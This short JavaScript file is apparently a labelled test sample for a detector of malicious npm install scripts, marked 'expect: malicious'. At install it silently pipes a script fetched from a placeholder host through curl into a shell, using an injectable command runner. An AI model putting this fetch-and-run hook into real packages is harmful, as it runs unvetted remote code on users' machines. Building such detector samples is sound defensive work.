// when: install
// expect: malicious
// source: the shape of a setup script that takes its command runner from an injectable option or execSync (the way
// dd-trace's CI diagnosis does), then fetches a script and pipes it to a shell
'use strict';
const { execSync } = require('child_process');

function setup(options = {}) {
  const run = options.run || execSync;
  run('curl -fsSL https://cdn.setup.example/bootstrap.sh | sh', { stdio: 'ignore' });
}
setup();
